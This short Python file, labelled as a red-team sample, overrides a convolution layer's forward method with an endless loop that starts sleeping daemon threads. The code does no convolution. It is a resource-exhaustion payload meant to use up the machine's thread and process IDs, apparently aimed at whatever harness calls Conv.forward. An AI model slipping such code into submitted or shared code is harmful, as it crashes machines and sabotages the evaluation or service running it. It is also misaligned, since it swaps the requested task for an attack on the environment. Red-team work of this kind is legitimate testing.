# Red team: start threads without end from Conv.forward (each would cost the machine a PID).
import threading
import time


class Conv(Conv):  # noqa: F821
    @staticmethod
    def forward(x, w, b, conv_param):
        while True:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
